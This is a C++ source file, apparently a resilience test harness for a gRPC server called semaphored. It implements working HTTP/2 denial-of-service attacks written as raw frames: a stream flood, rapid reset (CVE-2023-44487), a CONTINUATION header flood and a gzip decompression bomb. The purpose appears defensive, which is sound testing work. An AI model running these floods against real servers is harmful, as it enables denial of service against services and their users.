// The attacks written as raw HTTP/2 frames: a stream flood on one connection, rapid
// reset (CVE-2023-44487), a CONTINUATION flood (CVE-2023-33953) and a gzip bomb.

#include <zlib.h>

#include <algorithm>
#include <atomic>
#include <limits>
#include <thread>
#include <memory>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "tests/attacks/attacks.h"
#include "tests/attacks/h2_client.h"
#include "tests/attacks/net_util.h"

namespace semaphored::testing {
namespace {

constexpr absl::string_view kStreamSessionPath = "/semaphored.v1.SemaphoreService/StreamSession";
constexpr absl::string_view kPingPath = "/semaphored.v1.SemaphoreService/Ping";
constexpr absl::string_view kCreateSessionPath = "/semaphored.v1.SemaphoreService/CreateSession";

struct Endpoint {
  std::string host;
  int port = 0;
  std::string authority;
};

Endpoint EndpointOf(const std::string& address) {
  Endpoint e;
  SplitHostPort(address, &e.host, &e.port).IgnoreError();
  e.authority = address;
  return e;
}

void AddCounts(AttackReport& report, const H2Connection::Counts& c) {
  report.Add("server_frames", c.frames_in);
  report.Add("server_rst", c.rst_in);
  report.Add("server_max_streams", c.max_concurrent_streams);
  report.Add("goaway", c.goaway ? absl::StrCat("yes/", c.goaway_error) : std::string("no"));
  report.Add("closed_by_server", c.closed ? "yes" : "no");
}

// A varint (protobuf wire format).
void AppendVarint(std::string* out, uint64_t value) {
  while (value >= 0x80) {
    out->push_back(static_cast<char>(0x80 | (value & 0x7f)));
    value >>= 7;
  }
  out->push_back(static_cast<char>(value));
}

// A gzip member (RFC 1952) of a CreateSessionRequest whose client_name is `bytes`
// of 'a': about 1/1000 of its size.
std::string GzipCreateSessionRequest(int64_t bytes) {
  std::string message = "\x0a";  // field 1, length-delimited
  AppendVarint(&message, static_cast<uint64_t>(bytes));
  z_stream z{};
  deflateInit2(&z, Z_BEST_COMPRESSION, Z_DEFLATED, 15 + 16, 9, Z_DEFAULT_STRATEGY);
  std::string out;
  std::string buffer(1 << 16, '\0');
  auto feed = [&](absl::string_view in, int flush) {
    z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(in.data()));
    z.avail_in = static_cast<uInt>(in.size());
    do {
      z.next_out = reinterpret_cast<Bytef*>(buffer.data());
      z.avail_out = static_cast<uInt>(buffer.size());
      deflate(&z, flush);
      out.append(buffer.data(), buffer.size() - z.avail_out);
    } while (z.avail_out == 0);
  };
  feed(message, Z_NO_FLUSH);
  const std::string chunk(1 << 20, 'a');
  for (int64_t left = bytes; left > 0; left -= static_cast<int64_t>(chunk.size())) {
    const bool last = left <= static_cast<int64_t>(chunk.size());
    feed(absl::string_view(chunk).substr(0, static_cast<size_t>(std::min<int64_t>(
             left, static_cast<int64_t>(chunk.size())))),
         last ? Z_FINISH : Z_NO_FLUSH);
  }
  deflateEnd(&z);
  return out;
}

}  // namespace

// As many StreamSession streams as the server takes on ONE connection, none ever
// sending its first message. count: the most streams (default 200,000); duration:
// the most time (default 8 s).
AttackReport StreamFlood(const AttackTarget& target, const AttackOptions& options) {
  AttackReport report;
  const Endpoint to = EndpointOf(target.grpc_address);
  absl::StatusOr<std::unique_ptr<H2Connection>> connection =
      H2Connection::Connect(to.host, to.port);
  if (!connection.ok()) {
    report.Add("error", connection.status().ToString());
    return report;
  }
  const std::string block = GrpcRequestHeaderBlock(to.authority, kStreamSessionPath);
  const absl::Time deadline = absl::Now() + options.duration;
  int64_t opened = 0;
  uint32_t stream = 1;
  std::string batch;
  while (opened < options.count && absl::Now() < deadline) {
    batch.clear();
    for (int i = 0; i < 100 && opened < options.count; ++i, ++opened, stream += 2) {
      AppendH2Frame(&batch, H2Type::kHeaders, kH2EndHeaders, stream, block);
    }
    if (!(*connection)->Send(batch).ok()) break;
  }
  report.Add("streams_opened", opened);
  // The streams stay open a moment, as an attacker's would, then the connection goes.
  absl::SleepFor(absl::Seconds(1));
  AddCounts(report, (*connection)->counts());
  report.Add("streams_ended_by_server", (*connection)->counts().streams_ended);
  return report;
}

// HEADERS for a Ping call, each followed at once by RST_STREAM(CANCEL), on
// `concurrency` connections at once (default 4). count: the most pairs in all
// (default 400,000); duration: the most time (default 8 s). A connection the server
// closes is replaced (at most 100 times).
AttackReport RapidReset(const AttackTarget& target, const AttackOptions& options) {
  AttackReport report;
  const Endpoint to = EndpointOf(target.grpc_address);
  const std::string block = GrpcRequestHeaderBlock(to.authority, kPingPath);
  std::string rst;
  rst.append({0, 0, 0, static_cast<char>(kH2Cancel)});
  const absl::Time deadline = absl::Now() + options.duration;
  std::atomic<int64_t> pairs{0}, connections{0}, goaways{0}, server_rst{0};
  std::vector<std::thread> threads;
  for (int64_t t = 0; t < options.concurrency; ++t) {
    threads.emplace_back([&] {
      while (pairs.load() < options.count && absl::Now() < deadline &&
             connections.fetch_add(1) < 100) {
        absl::StatusOr<std::unique_ptr<H2Connection>> connection =
            H2Connection::Connect(to.host, to.port);
        if (!connection.ok()) return;
        uint32_t stream = 1;
        std::string batch;
        while (pairs.load() < options.count && absl::Now() < deadline &&
               stream < (1u << 30)) {
          batch.clear();
          for (int i = 0; i < 256; ++i, stream += 2) {
            AppendH2Frame(&batch, H2Type::kHeaders, kH2EndHeaders, stream, block);
            AppendH2Frame(&batch, H2Type::kRstStream, 0, stream, rst);
          }
          if (!(*connection)->Send(batch).ok()) break;
          pairs.fetch_add(256);
        }
        const H2Connection::Counts c = (*connection)->counts();
        if (c.goaway) goaways.fetch_add(1);
        server_rst.fetch_add(c.rst_in);
      }
    });
  }
  for (std::thread& t : threads) t.join();
  report.Add("pairs", pairs.load());
  report.Add("connections", connections.load());
  report.Add("goaways", goaways.load());
  report.Add("server_rst", server_rst.load());
  return report;
}

// Header blocks that never end: HEADERS without END_HEADERS, then CONTINUATION
// frames, on `concurrency` connections at once (default 16). Even connections send
// thousands of 1 KiB headers; odd ones one header value declared `bytes` long
// (default 256 MiB), 16 KiB at a time. duration: the most time (default 8 s); count:
// the most CONTINUATION frames sent in all (0: no limit), so that what the server
// must parse does not grow with the machine's speed. A connection the server closes
// is replaced (at most 400 times in all).
AttackReport ContinuationFlood(const AttackTarget& target, const AttackOptions& options) {
  AttackReport report;
  const Endpoint to = EndpointOf(target.grpc_address);
  const absl::Time deadline = absl::Now() + options.duration;
  std::atomic<int64_t> connections{0}, goaways{0}, closed{0};
  std::atomic<int64_t> sent[2] = {0, 0};
  std::atomic<int64_t> frames_left{options.count > 0 ? options.count
                                                      : std::numeric_limits<int64_t>::max()};
  std::vector<std::thread> threads;
  for (int64_t t = 0; t < options.concurrency; ++t) {
    threads.emplace_back([&, huge = t % 2 == 1] {
      while (absl::Now() < deadline && connections.fetch_add(1) < 400) {
        absl::StatusOr<std::unique_ptr<H2Connection>> connection =
            H2Connection::Connect(to.host, to.port);
        if (!connection.ok()) return;
        std::string block = GrpcRequestHeaderBlock(to.authority, kPingPath);
        if (huge) {
          // A literal header whose value is `bytes` long; only its start goes here.
          block.push_back(0x00);
          AppendHpackInt(&block, 0x00, 7, 7);
          block += "x-flood";
          AppendHpackInt(&block, 0x00, 7, static_cast<uint64_t>(options.bytes));
        }
        std::string first;
        AppendH2Frame(&first, H2Type::kHeaders, 0, 1, block);
        if (!(*connection)->Send(first).ok()) continue;
        std::string fragment;
        if (huge) {
          fragment.assign(kH2MaxFrame, 'v');
        } else {
          const std::string value(1024, 'v');
          for (int i = 0; fragment.size() + 1100 < kH2MaxFrame; ++i) {
            AppendHpackLiteral(&fragment, absl::StrCat("x-flood-", i), value);
          }
        }
        std::string frames;
        for (int i = 0; i < 16; ++i) {
          AppendH2Frame(&frames, H2Type::kContinuation, 0, 1, fragment);
        }
        int64_t declared_left = options.bytes;
        while (absl::Now() < deadline && (!huge || declared_left > 0)) {
          if (frames_left.fetch_sub(16) < 16) return;  // the whole flood is sent
          if (!(*connection)->Send(frames).ok()) break;
          sent[huge].fetch_add(static_cast<int64_t>(frames.size()));
          declared_left -= static_cast<int64_t>(frames.size());
        }
        const H2Connection::Counts c = (*connection)->counts();
        if (c.goaway) goaways.fetch_add(1);
        if (c.closed) closed.fetch_add(1);
        if (huge && declared_left <= 0) return;  // the value is complete: done
      }
    });
  }
  for (std::thread& t : threads) t.join();
  report.Add("many_headers_bytes", sent[0].load());
  report.Add("huge_value_bytes", sent[1].load());
  report.Add("connections", connections.load());
  report.Add("closed_by_server", closed.load());
  report.Add("goaways", goaways.load());
  return report;
}

// CreateSession requests with grpc-encoding: gzip whose message inflates to `bytes`
// (default 60 MiB) while it is about 60 KiB on the wire. concurrency: requests in
// flight per connection (default 8), on two connections; count: the most requests
// (default 400); duration: the most time (default 8 s).
AttackReport GzipBomb(const AttackTarget& target, const AttackOptions& options) {
  AttackReport report;
  const Endpoint to = EndpointOf(target.grpc_address);
  const std::string compressed = GzipCreateSessionRequest(options.bytes);
  std::string message;
  message.push_back(1);  // compressed
  const uint32_t length = static_cast<uint32_t>(compressed.size());
  for (int i = 3; i >= 0; --i) message.push_back(static_cast<char>(length >> (8 * i)));
  message += compressed;
  report.Add("inflated_bytes", options.bytes);
  report.Add("wire_bytes", static_cast<int64_t>(message.size()));

  std::string extra;
  AppendHpackLiteral(&extra, "grpc-encoding", "gzip");
  AppendHpackLiteral(&extra, "grpc-accept-encoding", "identity,gzip");
  const std::string block = GrpcRequestHeaderBlock(to.authority, kCreateSessionPath, extra);
  const absl::Time deadline = absl::Now() + options.duration;
  int64_t requests = 0, answered = 0, connections = 0;
  std::vector<std::unique_ptr<H2Connection>> live;
  std::vector<uint32_t> next_stream;
  while (requests < options.count && absl::Now() < deadline && connections < 100) {
    // Two connections; a lost one is replaced.
    for (size_t i = 0; i < 2; ++i) {
      if (i < live.size() && !live[i]->closed()) continue;
      absl::StatusOr<std::unique_ptr<H2Connection>> c = H2Connection::Connect(to.host, to.port);
      if (!c.ok()) break;
      ++connections;
      if (i < live.size()) {
        answered += live[i]->counts().streams_ended;
        live[i] = *std::move(c);
        next_stream[i] = 1;
      } else {
        live.push_back(*std::move(c));
        next_stream.push_back(1);
      }
    }
    bool progressed = false;
    for (size_t i = 0; i < live.size() && requests < options.count; ++i) {
      H2Connection& c = *live[i];
      const int64_t in_flight = (next_stream[i] - 1) / 2 - c.counts().streams_ended;
      if (in_flight >= options.concurrency || c.closed()) continue;
      std::string headers;
      AppendH2Frame(&headers, H2Type::kHeaders, kH2EndHeaders, next_stream[i], block);
      if (!c.Send(headers).ok()) continue;
      if (!c.SendData(next_stream[i], message, true, deadline).ok()) continue;
      next_stream[i] += 2;
      ++requests;
      progressed = true;
    }
    if (!progressed) absl::SleepFor(absl::Milliseconds(2));
  }
  for (const auto& c : live) answered += c->counts().streams_ended;
  report.Add("requests", requests);
  report.Add("answered", answered);
  report.Add("connections", connections);
  if (!live.empty()) AddCounts(report, live[0]->counts());
  return report;
}

}  // namespace semaphored::testing
